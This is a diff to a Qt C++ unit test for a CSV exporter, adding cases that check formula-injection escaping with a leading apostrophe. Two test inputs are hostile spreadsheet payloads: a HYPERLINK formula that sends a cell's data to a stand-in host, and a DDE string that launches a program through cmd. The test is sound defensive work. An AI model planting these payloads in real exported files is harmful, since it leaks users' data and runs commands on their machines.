@@ -78,6 +78,19 @@ private Q_SLOTS:
         QTest::newRow("line feed") << QStringLiteral("A\nB") << QByteArray("\"A\nB\"");
         QTest::newRow("carriage return") << QStringLiteral("A\rB") << QByteArray("\"A\rB\"");
         QTest::newRow("empty") << QString() << QByteArray();
+        // A cell a spreadsheet would run as a formula goes as text.
+        QTest::newRow("formula with the separator")
+            << QStringLiteral("=HYPERLINK(\"http://x.example/?d=\"&A1;\"ABRIR\")")
+            << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1;\"\"ABRIR\"\")\"");
+        QTest::newRow("formula") << QStringLiteral("=1+1") << QByteArray("'=1+1");
+        QTest::newRow("at") << QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0")
+                            << QByteArray("'@SUM(1+9)*cmd|' /C calc'!A0");
+        QTest::newRow("plus") << QStringLiteral("+55 11 5555") << QByteArray("'+55 11 5555");
+        QTest::newRow("minus") << QStringLiteral("-2+3") << QByteArray("'-2+3");
+        QTest::newRow("tab") << QStringLiteral("\t=1") << QByteArray("'\t=1");
+        QTest::newRow("carriage return first") << QStringLiteral("\r=1") << QByteArray("\"'\r=1\"");
+        QTest::newRow("signs inside are plain")
+            << QStringLiteral("ANA-MARIA = SILVA@") << QByteArray("ANA-MARIA = SILVA@");
     }
     void fieldsAreQuotedAsRfc4180()
     {
@@ -87,6 +100,8 @@ private Q_SLOTS:
         // The same inside a line: the fields around it stay apart.
         BloquetoIndex::Line l = sample();
         l.sacado = text;
+        if (text.startsWith(QLatin1Char('\t')) || text.startsWith(QLatin1Char('\r')))
+            return; // the line trims a name's blanks first
         QVERIFY(BloquetoIndex::line(l).contains(";26000001010;" + field + ";00027182818205;"));
     }
 };
